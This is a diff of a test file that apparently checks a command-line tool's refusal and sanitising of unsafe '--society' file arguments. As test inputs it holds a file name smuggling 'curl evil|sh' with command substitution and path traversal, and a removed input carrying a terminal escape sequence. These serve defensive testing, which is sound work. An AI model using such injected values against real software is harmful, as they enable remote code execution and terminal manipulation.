@@ -75,9 +75,7 @@ describe.concurrent('a run that was imported', () => {
     expect(there).toMatch(/--society FILE\n$/)
     expect(await refusal('mine.ts#story')).toMatch(/--society 'mine\.ts#story'\n$/)
     expect(await refusal('x;curl evil|sh;/../$(calc).ts')).toMatch(/--society FILE\n$/)
-    expect(await refusal(`\u001b]0;owned\u0007${'long/'.repeat(200)}x.ts`)).toMatch(
-      /^CLI_BAD_SOCIETY \P{Cc}{0,500}\n$/u,
-    )
+    expect(await refusal(`${'long/'.repeat(200)}x.ts`)).toMatch(/^CLI_BAD_SOCIETY \P{Cc}{0,500}\n$/u)
     expect(hasRun()).toBe(false)
   })
 
